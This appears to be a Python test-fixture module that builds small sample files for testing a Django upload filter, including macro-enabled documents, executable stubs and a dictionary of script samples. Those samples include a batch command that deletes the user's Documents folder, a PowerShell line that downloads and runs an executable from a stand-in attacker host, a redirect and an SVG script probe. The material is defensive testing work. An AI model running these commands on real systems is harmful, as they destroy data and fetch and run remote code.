"""Small but real files, built in memory, for upload tests: what a student might attach."""

import io
import struct
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile

PDF = (
    b"%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n"
    b"2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n"
    b"trailer <</Root 1 0 R>>\n%%EOF\n"
)
WINDOWS_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48
LINUX_PROGRAM = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56


def png() -> bytes:
    """A 1×1 white PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\xff\xff")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"


def _zip(entries: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in entries:
            compress = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(name, data, compress_type=compress)
    return buffer.getvalue()


def docx() -> bytes:
    return _zip(
        [
            ("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'),
            ("_rels/.rels", b'<?xml version="1.0"?><Relationships/>'),
            ("word/document.xml", b'<?xml version="1.0"?><w:document/>'),
        ]
    )


def odt() -> bytes:
    return _zip(
        [
            ("mimetype", b"application/vnd.oasis.opendocument.text"),
            ("content.xml", b'<?xml version="1.0"?><office:document-content/>'),
            ("META-INF/manifest.xml", b'<?xml version="1.0"?><manifest:manifest/>'),
        ]
    )


DOCX_PARTS = [
    ("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'),
    ("_rels/.rels", b'<?xml version="1.0"?><Relationships/>'),
    ("word/document.xml", b'<?xml version="1.0"?><w:document/>'),
]
MACRO_CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="'
    b'application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)


def docx_with(*extra: tuple[str, bytes], content_types: bytes | None = None) -> bytes:
    """A .docx carrying ``extra`` members (macros, embedded objects, programs)."""
    parts = list(DOCX_PARTS)
    if content_types is not None:
        parts[0] = ("[Content_Types].xml", content_types)
    return _zip(parts + list(extra))


def docm() -> bytes:
    """A macro-enabled Word document, as Word saves one: a VBA project and its content type."""
    return docx_with(
        ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 VBA project"),
        content_types=MACRO_CONTENT_TYPES,
    )


def odt_with(*extra: tuple[str, bytes]) -> bytes:
    return _zip(
        [
            ("mimetype", b"application/vnd.oasis.opendocument.text"),
            ("content.xml", b'<?xml version="1.0"?><office:document-content/>'),
            ("META-INF/manifest.xml", b'<?xml version="1.0"?><manifest:manifest/>'),
            *extra,
        ]
    )


# Text that runs when opened under its name: each is plain UTF-8 text by content.
SCRIPTS = {
    ".bat": b"@echo off\r\ndel /q %USERPROFILE%\\Documents\r\n",
    ".cmd": b"@echo off\r\nstart calc.exe\r\n",
    ".ps1": b"Invoke-WebRequest https://evil.example/x.exe -OutFile x.exe; ./x.exe\n",
    ".hta": b'<html><script language="VBScript">CreateObject("WScript.Shell")</script></html>',
    ".vbs": b'CreateObject("WScript.Shell").Run "calc.exe"\n',
    ".js": b'new ActiveXObject("WScript.Shell").Run("calc.exe");\n',
    ".html": b"<!doctype html><script>document.location='https://evil.example'</script>\n",
    ".svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n',
}


def plain_zip() -> bytes:
    return _zip([("notes.txt", b"hello"), ("run.bat", b"echo hi")])


def upload(name: str, data: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data)
